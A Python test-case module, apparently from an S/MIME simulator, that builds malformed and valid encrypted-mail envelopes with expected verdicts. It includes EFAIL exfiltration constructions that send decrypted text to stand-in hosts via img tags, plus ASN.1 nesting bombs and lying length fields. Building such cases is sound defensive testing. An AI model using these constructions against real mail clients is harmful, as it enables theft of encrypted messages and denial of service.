"""What is wrong with an encryption, or odd and right; the classics of EFAIL among it."""

import os
from collections.abc import Callable
from dataclasses import replace
from typing import Final

from cryptography.hazmat.decrepit.ciphers.algorithms import TripleDES
from cryptography.hazmat.primitives.ciphers import Cipher
from cryptography.hazmat.primitives.ciphers.algorithms import AES
from cryptography.hazmat.primitives.ciphers.modes import CBC

from mssante_sim.crypto import base64_lines, cms_envelope, der, smime
from mssante_sim.crypto.algorithms import AES_128_CBC, AES_256_CBC, AES_256_GCM
from mssante_sim.crypto.broken.case import Case, Kind, Made, Verdict
from mssante_sim.crypto.broken.scene import TEXT, Scene
from mssante_sim.crypto.broken.signature_cases import mixed
from mssante_sim.crypto.cms import DATA, content_info, content_of
from mssante_sim.crypto.cms_envelope import AUTH_ENVELOPED_DATA, ENVELOPED_DATA, EnvelopeForm
from mssante_sim.crypto.content_encryption import ContentEncryption
from mssante_sim.crypto.identity import read_certificate
from mssante_sim.crypto.key_management import Transport, write_recipient
from mssante_sim.crypto.profiles import RECEIVING

__all__ = ["ENVELOPE_CASES"]

_OTHER: Final = "quelquun.dautre@officine.mssante.test"
_TRIPLE_DES: Final = der.object_identifier("1.2.840.113549.3.7")
_GCM: Final = EnvelopeForm(AES_256_GCM)
_HTML: Final = (
    b"Content-Type: text/html; charset=utf-8\r\n\r\n<html><body>"
    b"<p>Ordonnance fictive : secret qui ne doit pas sortir.</p></body></html>\r\n"
)


def _wrapped(cms: bytes, smime_type: bytes = b"enveloped-data") -> Made:
    return Made(
        b"Content-Type: application/pkcs7-mime; smime-type=" + smime_type + b'; name="smime.p7m"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + b"".join(base64_lines.encode((cms,)))
    )


def _letter(scene: Scene) -> bytes:
    return scene.signed(scene.leaf())


def _cms(scene: Scene, form: EnvelopeForm | None = None, content: bytes | None = None) -> bytes:
    """A sound envelope around a sound letter."""
    letter = _letter(scene) if content is None else content
    return b"".join(cms_envelope.encrypt(letter, [scene.receiving.certificate], form or EnvelopeForm()))


def _sound(scene: Scene, form: EnvelopeForm) -> Made:
    return Made(smime.envelop(_letter(scene), [scene.receiving.certificate], form=form))


def _enveloped(*fields: bytes | memoryview) -> bytes:
    structure = der.sequence(*fields)
    return content_info(ENVELOPED_DATA, len(structure)) + structure


def _for_reader(scene: Scene, key: bytes) -> bytes:
    return write_recipient(read_certificate(scene.receiving.certificate), key, Transport.PKCS1)


def _triple_des(scene: Scene) -> Made:
    key, vector, letter = os.urandom(24), os.urandom(8), _letter(scene)
    padding = 8 - len(letter) % 8
    encryptor = Cipher(TripleDES(key), CBC(vector)).encryptor()
    encrypted = encryptor.update(letter + bytes((padding,)) * padding)
    algorithm = der.sequence(_TRIPLE_DES, der.octet_string(vector))
    info = der.sequence(DATA, algorithm, der.tlv(0x80, encrypted))
    return _wrapped(_enveloped(der.integer(0), der.set_of(_for_reader(scene, key)), info))


def _for_another(scene: Scene) -> Made:
    other = scene.leaf(RECEIVING, names=(_OTHER,), name=_OTHER)
    return Made(smime.envelop(_letter(scene), [other.certificate]))


def _no_recipient(scene: Scene) -> Made:
    version, _, info = content_of(_cms(scene), ENVELOPED_DATA, 3)
    return _wrapped(_enveloped(version.octets, der.set_of(), info.octets))


def _many_recipients(scene: Scene) -> Made:
    version, infos, info = content_of(_cms(scene), ENVELOPED_DATA, 3)
    (own,) = infos.children()
    return _wrapped(_enveloped(version.octets, der.tlv(der.SET, *[own.octets] * 2_000), info.octets))


def _looks_padded(key: bytes, encrypted: bytes) -> bool:
    """Whether the last block under `key` ends as a padding may; NSS looks at the last octet alone (one in 16)."""
    clear = Cipher(AES(key), CBC(encrypted[-32:-16])).decryptor().update(encrypted[-16:])
    return 1 <= clear[-1] <= 16


def _never_padded(attempt: Callable[[bytes], bytes]) -> tuple[bytes, bytes]:
    """A key, and what `attempt` encrypts with it, whose last block does not look padded under it."""
    tries = ((key, attempt(key)) for key in iter(lambda: os.urandom(32), b""))
    return next(one for one in tries if not _looks_padded(*one))


def _other_content_key(scene: Scene) -> Made:
    """The key that the reader gets is not the one the content was encrypted with."""
    version, _, info = content_of(_cms(scene), ENVELOPED_DATA, 3)
    encrypted = bytes(info.children()[2].content)
    key, _ = _never_padded(lambda _: encrypted)
    return _wrapped(_enveloped(version.octets, der.set_of(_for_reader(scene, key)), info.octets))


def _damaged_key(scene: Scene) -> Made:
    """Authenticated, so that a reader that takes a random key instead never sees a padding by chance."""
    version, infos, info, tag = content_of(_cms(scene, _GCM), AUTH_ENVELOPED_DATA, 4)
    (own,) = infos.children()
    damaged = bytes(own.octets[:-9]) + bytes(byte ^ 0x5A for byte in own.octets[-9:])
    structure = der.sequence(version.octets, der.tlv(der.SET, damaged), info.octets, tag.octets)
    return _authenticated(content_info(AUTH_ENVELOPED_DATA, len(structure)) + structure)


def _cut(scene: Scene) -> Made:
    return _wrapped(_cms(scene)[:-700])


def _not_whole_blocks(scene: Scene) -> Made:
    version, infos, info = content_of(_cms(scene), ENVELOPED_DATA, 3)
    kind, algorithm, content = info.children()
    shorter = der.sequence(kind.octets, algorithm.octets, der.tlv(0x80, content.content[:-5]))
    return _wrapped(_enveloped(version.octets, infos.octets, shorter))


def _padding_wrong(scene: Scene) -> Made:
    """The last block decrypts to something that ends with no padding."""
    encryption, letter = ContentEncryption.fresh(AES_256_CBC), _letter(scene)
    key, encrypted = _never_padded(lambda key: b"".join(encryption.encrypt(letter, key)) + bytes(16))
    info = der.sequence(DATA, encryption.identifier, der.tlv(0x80, encrypted))
    return _wrapped(_enveloped(der.integer(0), der.set_of(_for_reader(scene, key)), info))


def _authenticated(octets: bytes) -> Made:
    return _wrapped(octets, b"authEnveloped-data")


def _tag_wrong(scene: Scene) -> Made:
    octets = _cms(scene, _GCM)  # the tag stands last
    return _authenticated(octets[:-1] + bytes((octets[-1] ^ 1,)))


def _content_wrong(scene: Scene) -> Made:
    octets = _cms(scene, _GCM)
    return _authenticated(octets[:-300] + bytes((octets[-300] ^ 1,)) + octets[-299:])


def _tag_short(scene: Scene) -> Made:
    """Four octets of the true tag; one message in four thousand million is forged by chance."""
    version, infos, info, tag = content_of(_cms(scene, _GCM), AUTH_ENVELOPED_DATA, 4)
    kind, algorithm, content = info.children()
    oid, parameters = algorithm.children()
    short = der.sequence(oid.octets, der.sequence(parameters.children()[0].octets, der.integer(4)))
    encrypted = der.sequence(kind.octets, short, content.octets)
    structure = der.sequence(version.octets, infos.octets, encrypted, der.octet_string(bytes(tag.content[:4])))
    return _authenticated(content_info(AUTH_ENVELOPED_DATA, len(structure)) + structure)


def _said_to_be_cbc(scene: Scene) -> Made:
    """The content of an authenticated envelope offered as CBC, with its key, to a reader that tells what it sees."""
    letter = _letter(scene)
    letter = letter[: len(letter) // 16 * 16]
    key, encrypted = _never_padded(
        lambda key: b"".join(ContentEncryption.fresh(AES_256_GCM).encrypt(letter, key))[: len(letter)]
    )
    info = der.sequence(DATA, ContentEncryption(AES_256_CBC, bytes(16)).identifier, der.tlv(0x80, encrypted))
    return _wrapped(_enveloped(der.integer(0), der.set_of(_for_reader(scene, key)), info))


def _in_ber(scene: Scene) -> Made:
    version, infos, info = content_of(_cms(scene), ENVELOPED_DATA, 3)
    kind, algorithm, content = info.children()
    octets = bytes(content.content)
    pieces = (der.octet_string(octets[at : at + 1000]) for at in range(0, len(octets), 1000))
    encrypted = der.indefinite(der.SEQUENCE, kind.octets, algorithm.octets, der.indefinite(0xA0, *pieces))
    structure = der.indefinite(der.SEQUENCE, version.octets, infos.octets, encrypted)
    return _wrapped(der.indefinite(der.SEQUENCE, ENVELOPED_DATA, der.indefinite(0xA0, structure)))


def _efail_direct(scene: Scene) -> Made:
    """Whoever joins the three parts sends the secret to the host of the picture."""
    secret = smime.envelop(_HTML, [scene.receiving.certificate])
    before = b'Content-Type: text/html\r\n\r\n<img src="http://fuite.exemple.test/\r\n'
    return Made(mixed(before, secret, b'Content-Type: text/html\r\n\r\n">\r\n'))


def _efail_gadget(scene: Scene) -> Made:
    """Blocks put into the encrypted text by somebody who knows its first 48 octets and not the key."""
    version, infos, info = content_of(_cms(scene, content=_HTML), ENVELOPED_DATA, 3)
    kind, algorithm, content = info.children()
    vector, octets = bytes(algorithm.children()[1].content), bytes(content.content)
    known = bytes(one ^ other for one, other in zip(vector, _HTML[:16], strict=True))  # the cipher's own output

    def block(text: bytes) -> bytes:
        """Two blocks that decrypt to garbage, then to `text`."""
        return bytes(one ^ other for one, other in zip(known, text.ljust(16), strict=True)) + octets[:16]

    forged = octets[:48] + block(b'<img alt="') + block(b'" src="//x.test/') + octets[16:]
    altered = der.sequence(kind.octets, algorithm.octets, der.tlv(0x80, forged))
    return _wrapped(_enveloped(version.octets, infos.octets, altered))


def _swapped_inner(scene: Scene) -> Made:
    """Somebody else's true letter, encrypted again under the author's name."""
    stranger = scene.leaf(names=(_OTHER,), name=_OTHER)
    return Made(smime.envelop(scene.signed(stranger), [scene.receiving.certificate]))


def _triple(scene: Scene) -> Made:
    return Made(scene.signed(scene.leaf(), smime.envelop(_letter(scene), [scene.receiving.certificate])))


def _signed_outside_only(scene: Scene) -> Made:
    return Made(scene.signed(scene.leaf(), smime.envelop(TEXT, [scene.receiving.certificate])))


def _renamed(scene: Scene, old: bytes, new: bytes) -> Made:
    entity = smime.envelop(_letter(scene), [scene.receiving.certificate])
    assert old in entity  # noqa: S101  else the case would have nothing wrong in it
    return Made(entity.replace(old, new))


def _damaged_base64(scene: Scene) -> Made:
    """Near the beginning: further on, what some readers make of the rest may look padded by chance."""
    entity = smime.envelop(_letter(scene), [scene.receiving.certificate])
    at = entity.index(b"\r\n\r\n") + 12
    return Made(entity[:at] + b"***" + entity[at + 3 :])


def _five_deep(scene: Scene) -> Made:
    entity = _letter(scene)
    for _ in range(5):
        entity = smime.envelop(entity, [scene.receiving.certificate])
    return Made(entity)


def _case(name: str, verdict: Verdict, source: str, why: str, make: Callable[[Scene], Made], finding: str = "") -> Case:
    return Case(f"envelope-{name}", Kind.ENVELOPE, verdict, finding, source, why, make)


_SHUT, _OPEN, _UNSIGNED = Verdict.UNREADABLE, Verdict.ACCEPT, Verdict.UNSIGNED
ENVELOPE_CASES: Final = tuple(
    _case(*row)
    for row in (
        ("3des", _SHUT, "RFC 8551 §2.7", "The cipher is 3DES.", _triple_des),
        ("for-another", _SHUT, "RFC 5652 §6", "It is encrypted for somebody else.", _for_another),
        ("no-recipient", _SHUT, "RFC 5652 §6.1", "It is encrypted for nobody.", _no_recipient),
        ("many-recipients", _SHUT, "our choice", "Two thousand recipients: work for whoever looks.", _many_recipients),
        ("other-content-key", _SHUT, "RFC 3218 §2.3.2", "The reader gets another key.", _other_content_key),
        ("damaged-key", _SHUT, "RFC 3218 §2.3.2", "The reader's copy of the key is damaged.", _damaged_key),
        ("cut", _SHUT, "RFC 5652 §6.1", "The end is missing.", _cut),
        ("not-whole-blocks", _SHUT, "RFC 5652 §6.3", "The content is no number of blocks.", _not_whole_blocks),
        ("padding-wrong", _SHUT, "RFC 5652 §6.3", "The last block ends with no padding.", _padding_wrong),
        ("gcm-tag-wrong", _SHUT, "RFC 5083 §2.2", "One bit of the tag is wrong.", _tag_wrong),
        ("gcm-content-wrong", _SHUT, "RFC 5083 §2.2", "One bit of the content is wrong.", _content_wrong),
        ("gcm-tag-short", _SHUT, "RFC 5084 §3.2", "A tag of four octets.", _tag_short),
        ("gcm-said-to-be-cbc", _SHUT, "RFC 9709 §1", "Authenticated content offered as CBC.", _said_to_be_cbc),
        ("damaged-base64", _SHUT, "RFC 2045 §6.8", "Characters that are no base64.", _damaged_base64),
        ("trailing-octets", _SHUT, "our choice", "Octets follow the envelope.",
         lambda scene: _wrapped(_cms(scene) + b"\0\0")),
        ("nesting-bomb", _SHUT, "our choice", "Twenty thousand values one inside the other.",
         lambda _: _wrapped(b"\x30\x80" * 20_000 + b"\0\0" * 20_000)),
        ("length-lies", _SHUT, "X.690 §8.1.3", "It claims four gigabytes.",
         lambda scene: _wrapped(b"\x30\x84\xff\xff\xff\xff" + _cms(scene)[4:])),
        ("length-too-long", _SHUT, "our choice", "A length of nine octets.",
         lambda scene: _wrapped(b"\x30\x89" + b"\x01" * 9 + _cms(scene)[4:])),
        ("never-ends", _SHUT, "X.690 §8.1.5", "An indefinite length without an end.",
         lambda scene: _wrapped(b"\x30\x80" + _cms(scene)[4:])),
        ("five-deep", _SHUT, "our choice", "Encrypted five times over.", _five_deep),
        ("efail-direct", _UNSIGNED, "RFC 8551 §6", "An encrypted part between two that would carry it off.",
         _efail_direct),
        ("efail-gadget", _UNSIGNED, "RFC 8551 §6", "Blocks were put into the text; load nothing remote.",
         _efail_gadget),
        ("unsigned", _UNSIGNED, "RFC 8551 §2.4.3", "Encrypted by anyone: no author is proved.",
         lambda scene: Made(smime.envelop(TEXT, [scene.receiving.certificate]))),
        ("signed-outside-only", _UNSIGNED, "RFC 8551 §3.7", "A signature around the encryption proves no author.",
         _signed_outside_only),
        ("swapped-inner", Verdict.DISTRUST, "RFC 8550 §3", "Somebody else's letter under the author's name.",
         _swapped_inner, "step 6"),
        ("good", _OPEN, "RFC 8551 §3.7", "Nothing is wrong.", lambda scene: _sound(scene, EnvelopeForm())),
        ("aes-128", _OPEN, "RFC 8551 §2.7", "AES-128-CBC.", lambda scene: _sound(scene, EnvelopeForm(AES_128_CBC))),
        ("oaep", _OPEN, "RFC 8551 §2.3", "RSA-OAEP with SHA-256.",
         lambda scene: _sound(scene, replace(EnvelopeForm(), transport=Transport.OAEP))),
        ("gcm", _OPEN, "RFC 8551 §2.7", "AES-256-GCM.", lambda scene: _sound(scene, _GCM)),
        ("triple-wrapped", _OPEN, "RFC 2634 §1.1", "Signed, encrypted, signed again.", _triple),
        ("untyped", _OPEN, "RFC 8551 §3.2.2", "No smime-type, only a file name.",
         lambda scene: _renamed(scene, b"smime-type=enveloped-data;\r\n ", b"")),
        ("x-pkcs7-mime", _OPEN, "RFC 8551 §3.2", "The old name of the type.",
         lambda scene: _renamed(scene, b"application/pkcs7-mime", b"application/x-pkcs7-mime")),
        ("ber", _OPEN, "RFC 5652 §2", "Indefinite lengths, the content in pieces.", _in_ber),
    )
)  # fmt: skip
